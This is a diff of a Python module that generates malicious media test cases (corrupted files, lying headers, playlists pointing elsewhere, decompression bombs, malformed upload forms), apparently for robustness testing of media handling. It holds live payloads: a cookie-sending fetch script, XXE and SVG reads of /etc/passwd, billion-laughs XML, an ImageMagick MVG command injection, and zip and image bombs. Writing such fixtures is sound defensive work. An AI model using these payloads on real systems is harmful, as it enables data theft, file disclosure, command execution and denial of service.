@@ -1,8 +1,8 @@
 """Media files that are made to hurt whoever opens them, each from a number and a seed, all as code.
 
-`Maker.case` takes a small file that PyAV or Pillow has just written and damages it, lies in its headers, joins
-it to something else, or makes from nothing what was never a media file: a playlist under a video's name, an
-archive, a bomb. The same number and seed give the same bytes with the same versions of both libraries.
+`Maker.case` takes a small file that PyAV or Pillow has just written and damages it, lies in its headers,
+joins it to something else, or makes from nothing what was never a media file: a playlist under a video's
+name, an archive, a bomb. The same number and seed give the same bytes with the same versions of both.
 
 `BOMBS` are the files that unpack to far more than they weigh, by name, for whoever wants each of them.
 """
@@ -101,7 +101,7 @@ class Maker:
     return dataclasses.replace(_FAMILIES[family](rng), number=number, family=family)
 
 
-# Whole files --------------------------------------------------------------------------------------------------
+# Whole files -----------------------------------------------------------------------------------------------
 
 
 def pictures(count: int, *, width: int = _SIDE[0], height: int = _SIDE[1]) -> np.ndarray:
@@ -142,7 +142,7 @@ def video(
   options: Mapping[str, str] | None = None,
   streams: int = 1,
 ) -> bytes:
-  """A small film; `ticks` are the times of its frames in milliseconds, `streams` how many times it is in it."""
+  """A small film; `ticks` are its frames' times in ms, `streams` is how many times it is in the file."""
   frames = pictures(12) if frames is None else frames
   buffer = io.BytesIO()
   with av.open(buffer, "w", format=container, options={"fflags": "+bitexact"}) as target:
@@ -253,7 +253,9 @@ def whole(name: str) -> bytes:
   return WHOLE[name][1]()
 
 
-def _draw(rng: random.Random, *, kinds: tuple[str, ...] = ("video", "image", "audio")) -> tuple[str, str, bytes]:
+def _draw(
+  rng: random.Random, *, kinds: tuple[str, ...] = ("video", "image", "audio")
+) -> tuple[str, str, bytes]:
   """(kind, name, bytes) of one of WHOLE."""
   name = rng.choice([name for name, (kind, _) in WHOLE.items() if kind in kinds])
   return WHOLE[name][0], name, whole(name)
@@ -263,7 +265,7 @@ def _case(what: str, kind: str, name: str, data: bytes, **more) -> Case:
   return Case(0, "", what, kind, name, bytes(data), **more)
 
 
-# Damage -------------------------------------------------------------------------------------------------------
+# Damage ----------------------------------------------------------------------------------------------------
 
 
 def _whole(rng: random.Random) -> Case:
@@ -327,7 +329,7 @@ def _spliced(rng: random.Random) -> Case:
   return _case(f"{size} bytes at {at} {way}", kind, name, changed)
 
 
-# Lies ---------------------------------------------------------------------------------------------------------
+# Lies ------------------------------------------------------------------------------------------------------
 
 # Of files whose names end so: what is lied about, the bytes that it stands behind, how far behind the end of
 # these, its size in bytes and which end comes first.
@@ -560,9 +562,12 @@ def _places(data: bytes, mark: bytes) -> list[int]:
   return found
 
 
-# What is something else as well, or only ------------------------------------------------------------------------
+# What is something else as well, or only -------------------------------------------------------------------
 
-_HTML = b"<!doctype html><html><body><script>fetch('http://127.0.0.1/'+document.cookie)</script></body></html>"
+_HTML = (
+  b"<!doctype html><html><body><script>fetch('http://127.0.0.1/'+document.cookie)</script></body></html>"
+)
+_SVG, _XML = b'<svg xmlns="http://www.w3.org/2000/svg" ', b'<?xml version="1.0"?>'
 _SCRIPT = b"/*\x00*/=1;alert(1);//"
 
 
@@ -626,21 +631,29 @@ def _playlists(rng: random.Random) -> tuple[str, bytes]:
       ),
       ("m3u8 of itself", b"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nfd:3\n" * 200),
       ("ffconcat", f"ffconcat version 1.0\nfile '{target}'\nduration 10\n".encode()),
-      ("SDP", f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nu={target}\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\n".encode()),
+      (
+        "SDP",
+        f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nu={target}\nc=IN IP4 127.0.0.1\nt=0 0\n"
+        "m=video 9 RTP/AVP 96\n".encode(),
+      ),
       ("pls", f"[playlist]\nFile1={target}\nLength1=-1\nNumberOfEntries=1\nVersion=2\n".encode()),
       ("asx", f'<asx version="3.0"><entry><ref href="{target}"/></entry></asx>'.encode()),
       (
         "DASH",
-        f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet><Representation '
-        f'id="1"><BaseURL>{target}</BaseURL></Representation></AdaptationSet></Period></MPD>'.encode(),
+        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet>'
+        f'<Representation id="1"><BaseURL>{target}</BaseURL></Representation>'
+        "</AdaptationSet></Period></MPD>".encode(),
       ),
-      ("xspf", f"<playlist><trackList><track><location>{target}</location></track></trackList></playlist>".encode()),
+      (
+        "xspf",
+        f"<playlist><trackList><track><location>{target}</location></track></trackList></playlist>".encode(),
+      ),
       ("cue", f'FILE "{target}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n'.encode()),
       ("ffmetadata", b";FFMETADATA1\ntitle=x\n[CHAPTER]\nSTART=0\nEND=-1\n" * 50),
       ("subtitles", b"WEBVTT\n\n00:00.000 --> 99:00:00.000\nx\n" * 50),
       ("image sequence", f"{target}%03d.png".encode()),
     ]
-  )  # fmt: skip
+  )
 
 
 # What makes a file look like one of its name, to the first look.
@@ -682,7 +695,9 @@ def _playlist(rng: random.Random) -> Case:
     # A film of QuickTime that says that its media lie elsewhere.
     place = _box(b"url ", bytes(4) + data[:400] + b"\0")
     dref = _box(b"dref", struct.pack(">II", 0, 1) + place)
-    reference = _box(b"rmra", _box(b"rmda", _box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", 400) + data[:400])))
+    reference = _box(
+      b"rmra", _box(b"rmda", _box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", 400) + data[:400]))
+    )
     data = _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(b"moov", reference + _box(b"dinf", dref))
     kind, name = "video", "a.mov"
   return _case(f"{what}, {way}", kind, name, data)
@@ -693,16 +708,16 @@ def _markup(rng: random.Random) -> Case:
   laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
   what, data = rng.choice(
     [
-      ("SVG", b'<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"><script>alert(1)</script></svg>'),
-      ("SVG that names a file", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'),
-      ("XML that names a file", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
-      ("XML that laughs", f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><x>&l9;</x>'.encode()),
+      ("SVG", _SVG + b'width="1e9" height="1e9"><script>alert(1)</script></svg>'),
+      ("SVG that names a file", _SVG + b'><image href="file:///etc/passwd"/></svg>'),
+      ("XML that names a file", _XML + b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
+      ("XML that laughs", _XML + f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><x>&l9;</x>'.encode()),
       ("HTML", _HTML),
       ("PostScript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n{}loop\n"),
       ("MVG", b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|id\")'\n"),
       ("XPM", b'/* XPM */\nstatic char *x[] = {"99999 99999 2 1","a c #000",};\n'),
     ]
-  )  # fmt: skip
+  )
   return _case(what, kind, name, (magic if rng.random() < 0.3 else b"") + data)
 
 
@@ -721,12 +736,16 @@ def _shell(rng: random.Random) -> Case:
       ("no streams", _box(b"ftyp", b"isom\0\0\2\0isom") + _box(b"moov", _box(b"mvhd", bytes(100)))),
       (
         "no tracks",
-        b"\x1aE\xdf\xa3\x93\x42\x82\x88matroska\x42\x87\x81\x02\x42\x85\x81\x02\x18\x53\x80\x67\x85\x15\x49\xa9\x66\x80",
+        b"\x1aE\xdf\xa3\x93\x42\x82\x88matroska\x42\x87\x81\x02\x42\x85\x81\x02"
+        b"\x18\x53\x80\x67\x85\x15\x49\xa9\x66\x80",
       ),
-      ("a sound of no samples", b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\1\0\1\0\x80\x3e\0\0\0\x7d\0\0\2\0\x10\0data\0\0\0\0"),
+      (
+        "a sound of no samples",
+        b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\1\0\1\0\x80\x3e\0\0\0\x7d\0\0\2\0\x10\0data\0\0\0\0",
+      ),
       ("no pictures", b"RIFF\x10\0\0\0AVI LIST\4\0\0\0movi"),
     ]
-  )  # fmt: skip
+  )
   return _case(what, kind, name, data)
 
 
@@ -778,7 +797,7 @@ def _tar_with_link() -> bytes:
   return buffer.getvalue()
 
 
-# Right by the letter, and rare ----------------------------------------------------------------------------------
+# Right by the letter, and rare -----------------------------------------------------------------------------
 
 
 def _unusual(rng: random.Random) -> Case:
@@ -795,7 +814,9 @@ def _sides(width: int, height: int, count: int = 3) -> np.ndarray:
 def _wav(samples: bytes, *, rate_hz: int, bits: int = 32, form: int = 3, channels: int = 1) -> bytes:
   block = channels * bits // 8
   head = struct.pack("<HHIIHH", form, channels, rate_hz, (rate_hz * block) % (1 << 32), block, bits)
-  body = b"WAVEfmt " + struct.pack("<I", len(head)) + head + b"data" + struct.pack("<I", len(samples)) + samples
+  body = (
+    b"WAVEfmt " + struct.pack("<I", len(head)) + head + b"data" + struct.pack("<I", len(samples)) + samples
+  )
   return b"RIFF" + struct.pack("<I", len(body)) + body
 
 
@@ -821,11 +842,19 @@ _UNUSUAL: tuple[tuple[str, str, Callable[[], bytes]], ...] = (
   ("ten bits .mp4", "video", lambda: video("mp4", "libx264", pixel_format="yuv420p10le", options=_H264)),
   ("a strip .mp4", "video", lambda: video("mp4", "mpeg4", frames=_sides(2048, 16))),
   ("one frame .webm", "video", lambda: video("webm", "libvpx", frames=pictures(1))),
-  ("clear .webm", "video", lambda: video("webm", "libvpx", pixel_format="yuva420p", frames=pictures(3), options={"auto-alt-ref": "0"})),
+  (
+    "clear .webm",
+    "video",
+    lambda: video(
+      "webm", "libvpx", pixel_format="yuva420p", frames=pictures(3), options={"auto-alt-ref": "0"}
+    ),
+  ),
   (
     "uneven times .mkv",
     "video",
-    lambda: video("matroska", "libx264", frames=pictures(6), ticks=[0, 3, 900, 901, 60_000, 61_000], options=_H264),
+    lambda: video(
+      "matroska", "libx264", frames=pictures(6), ticks=[0, 3, 900, 901, 60_000, 61_000], options=_H264
+    ),
   ),
   (
     "hours between frames .mkv",
@@ -836,18 +865,30 @@ _UNUSUAL: tuple[tuple[str, str, Callable[[], bytes]], ...] = (
   ("lossless .mkv", "video", lambda: video("matroska", "ffv1", frames=pictures(3))),
   ("five films .mkv", "video", lambda: video("matroska", "mpeg4", frames=pictures(2), streams=5)),
   ("no number .wav", "audio", lambda: _wav(_WILD.tobytes(), rate_hz=16_000)),
-  ("no number, doubles .wav", "audio", lambda: _wav(_WILD.astype(np.float64).tobytes(), rate_hz=16_000, bits=64)),
+  (
+    "no number, doubles .wav",
+    "audio",
+    lambda: _wav(_WILD.astype(np.float64).tobytes(), rate_hz=16_000, bits=64),
+  ),
   ("one sample .wav", "audio", lambda: _wav(bytes(4), rate_hz=16_000)),
   ("one sample a second .wav", "audio", lambda: _wav(bytes(40), rate_hz=1, bits=8, form=1)),
   ("a million a second .wav", "audio", lambda: _wav(bytes(80_000), rate_hz=1_000_000)),
   ("silence .wav", "audio", lambda: _wav(bytes(64_000), rate_hz=16_000)),
-  ("eight channels .wav", "audio", lambda: _wav(bytes(range(256)) * 64, rate_hz=48_000, bits=16, form=1, channels=8)),
-  ("sixty channels .wav", "audio", lambda: _wav(bytes(2 * 60 * 999), rate_hz=8000, bits=16, form=1, channels=60)),
+  (
+    "eight channels .wav",
+    "audio",
+    lambda: _wav(bytes(range(256)) * 64, rate_hz=48_000, bits=16, form=1, channels=8),
+  ),
+  (
+    "sixty channels .wav",
+    "audio",
+    lambda: _wav(bytes(2 * 60 * 999), rate_hz=8000, bits=16, form=1, channels=60),
+  ),
   ("half a sample .wav", "audio", lambda: _wav(bytes(3), rate_hz=16_000)),
   ("384 kHz .flac", "audio", lambda: audio("flac", "flac", rate_hz=384_000, seconds=0.2)),
   ("six channels .ogg", "audio", lambda: audio("ogg", "libopus", rate_hz=48_000, layout="5.1")),
   ("very loud .wav", "audio", lambda: _wav((np.ones(16_000, np.float32) * 1e6).tobytes(), rate_hz=16_000)),
-)  # fmt: skip
+)
 
 
 @functools.cache
@@ -872,7 +913,7 @@ def _exif(orientation: int):
   return exif
 
 
-# Depth ----------------------------------------------------------------------------------------------------------
+# Depth -----------------------------------------------------------------------------------------------------
 
 
 def _nested(rng: random.Random) -> Case:
@@ -883,15 +924,23 @@ def _nested(rng: random.Random) -> Case:
       ("video", "deep.mov", lambda: _box(b"ftyp", b"qt  \0\0\2\0qt  ") + _deep_boxes(b"udta", depth)),
       ("audio", "deep.m4a", lambda: _box(b"ftyp", b"M4A \0\0\2\0M4A ") + _deep_boxes(b"trak", depth)),
       ("video", "deep.mkv", lambda: b"\x1aE\xdf\xa3\x80" + _deep_ebml(b"\x18\x53\x80\x67", min(depth, 3000))),
-      ("video", "deep.webm", lambda: b"\x1aE\xdf\xa3\x80" + _deep_ebml(b"\x12\x54\xc3\x67", min(depth, 3000))),
+      (
+        "video",
+        "deep.webm",
+        lambda: b"\x1aE\xdf\xa3\x80" + _deep_ebml(b"\x12\x54\xc3\x67", min(depth, 3000)),
+      ),
       ("video", "deep.avi", lambda: b"RIFF\xff\xff\xff\x00AVI " + b"LIST\xff\xff\x00\x00hdrl" * depth),
       ("audio", "deep.wav", lambda: b"RIFF\xff\xff\xff\x00WAVE" + b"LIST\xff\xff\x00\x00INFO" * depth),
-      ("image", "deep.jpg", lambda: b"\xff\xd8" + b"\xff\xe1\x00\x08Exif\0\0" * depth + whole("plain.jpg")[2:]),
-      ("image", "deep.png", lambda: whole("plain.png")[:33] + _png_chunk(b"tEXt", b"a\0b") * depth + whole("plain.png")[33:]),
+      (
+        "image",
+        "deep.jpg",
+        lambda: b"\xff\xd8" + b"\xff\xe1\x00\x08Exif\0\0" * depth + whole("plain.jpg")[2:],
+      ),
+      ("image", "deep.png", lambda: _png_with_chunks(_png_chunk(b"tEXt", b"a\0b") * depth)),
       ("audio", "deep.mp3", lambda: b"ID3\x04\x00\x00\x00\x00\x00\x0a" * depth + whole("plain.mp3")),
       ("image", "loop.jpg", lambda: _exif_loop()),
     ]
-  )  # fmt: skip
+  )
   return _case(f"{depth} deep", kind, name, data() + rng.randbytes(2))
 
 
@@ -906,13 +955,16 @@ def _deep_boxes(name: bytes, depth: int) -> bytes:
 
 def _deep_ebml(name: bytes, depth: int) -> bytes:
   step = len(name) + 8
-  return b"".join(
-    name + b"\x01" + (step * (depth - level - 1)).to_bytes(7, "big") for level in range(depth)
-  )
+  return b"".join(name + b"\x01" + (step * (depth - level - 1)).to_bytes(7, "big") for level in range(depth))
 
 
 def _png_chunk(name: bytes, content: bytes) -> bytes:
   return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
+
+
+def _png_with_chunks(chunks: bytes) -> bytes:
+  data = whole("plain.png")
+  return data[:33] + chunks + data[33:]
 
 
 def _exif_loop() -> bytes:
@@ -923,7 +975,7 @@ def _exif_loop() -> bytes:
   return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(segment) + 2) + segment + whole("plain.jpg")[2:]
 
 
-# Forms ----------------------------------------------------------------------------------------------------------
+# Forms -----------------------------------------------------------------------------------------------------
 
 
 def _form(rng: random.Random) -> Case:
@@ -947,18 +999,24 @@ def _form(rng: random.Random) -> Case:
       ("another boundary", _case("", kind, name, data, body=one_file(kind, name, data, b"other"))),
       ("no form", _case("", kind, name, data, body=data)),
       ("no body", _case("", kind, name, data, body=b"")),
-      ("a header without end", _case("", kind, name, data, body=b"--" + BOUNDARY + b"\r\nX: " + b"a" * 30_000)),
-      ("headers without end", _case("", kind, name, data, body=b"--" + BOUNDARY + b"\r\n" + b"X: a\r\n" * 5000)),
+      (
+        "a header without end",
+        _case("", kind, name, data, body=b"--" + BOUNDARY + b"\r\nX: " + b"a" * 30_000),
+      ),
+      (
+        "headers without end",
+        _case("", kind, name, data, body=b"--" + BOUNDARY + b"\r\n" + b"X: a\r\n" * 5000),
+      ),
       ("a thousand parts", _case("", kind, name, data, body=(b"--" + BOUNDARY + b"\r\n\r\na\r\n") * 1000)),
       ("a length that is less", _case("", kind, name, data, body=right, length=len(right) // 2)),
       ("a length beyond all", _case("", kind, name, data, body=right, length=1 << 62)),
       ("no name", _case("", kind, "", data)),
     ]
-  )  # fmt: skip
+  )
   return dataclasses.replace(made, what=f"{name}: {what}")
 
 
-# Bombs ----------------------------------------------------------------------------------------------------------
+# Bombs -----------------------------------------------------------------------------------------------------
 
 
 def _png_of(width: int, height: int, *, depth: int = 1, colour: int = 0, body: bytes | None = None) -> bytes:
@@ -988,8 +1046,7 @@ def _webp_of(width: int, height: int) -> bytes:
 
 def _png_with(name: bytes, beginning: bytes, size: int) -> bytes:
   """A small PNG with a packed text or profile of so many zeros."""
-  data = whole("plain.png")
-  return data[:33] + _png_chunk(name, beginning + _packed_zeros(size)) + data[33:]
+  return _png_with_chunks(_png_chunk(name, beginning + _packed_zeros(size)))
 
 
 def _packed_zeros(size: int) -> bytes:
@@ -1097,7 +1154,7 @@ BOMBS: dict[str, tuple[str, str, Callable[[], bytes]]] = {
   "WebP of 16383 x 16383": ("image", "a.webp", lambda: _webp_of(16_383, 16_383)),
   "PNG with a text of 100 MB": ("image", "a.png", lambda: _png_with(b"zTXt", b"a\0\0", 100_000_000)),
   "PNG with a profile of 100 MB": ("image", "a.png", lambda: _png_with(b"iCCP", b"a\0\0", 100_000_000)),
-  "AVI of 30000 x 30000": ("video", "a.avi", lambda: _avi_of(30_000)),
+  "AVI of 12000 x 12000": ("video", "a.avi", lambda: _avi_of(12_000)),
   "AVI of 2147483647 x 2147483647": ("video", "a.avi", lambda: _avi_of(2**31 - 1)),
   "MP4, 60 frames of 4096 x 4096": ("video", "a.mp4", lambda: _large_frames(60, side=4096)),
   "MP4, one frame named 600000 times": ("video", "a.mp4", lambda: _one_frame_many_times(600_000)),
@@ -1105,7 +1162,9 @@ BOMBS: dict[str, tuple[str, str, Callable[[], bytes]]] = {
   "MP4 of 100000000 frames": (
     "video",
     "a.mp4",
-    lambda: _of_table({b"stts": struct.pack(">IIII", 0, 1, 10**8, 512), b"stsz": struct.pack(">III", 0, 1, 10**8)}),
+    lambda: _of_table(
+      {b"stts": struct.pack(">IIII", 0, 1, 10**8, 512), b"stsz": struct.pack(">III", 0, 1, 10**8)}
+    ),
   ),
   "MOV with an index of 200 MB": ("video", "a.mov", lambda: _packed_index(200_000_000)),
   "MKV of 900 streams": ("video", "a.mkv", lambda: _many_streams(900)),
@@ -1122,7 +1181,7 @@ BOMBS: dict[str, tuple[str, str, Callable[[], bytes]]] = {
     lambda: functools.reduce(lambda inner, _: _zip({"a.zip": inner}), range(5), _zip({"a": bytes(10**7)})),
   ),
   "gzip of 100 MB as JPEG": ("image", "a.jpg", lambda: gzip.compress(bytes(10**8), 9, mtime=0)),
-}  # fmt: skip
+}
 
 
 def _long_flac() -> bytes:
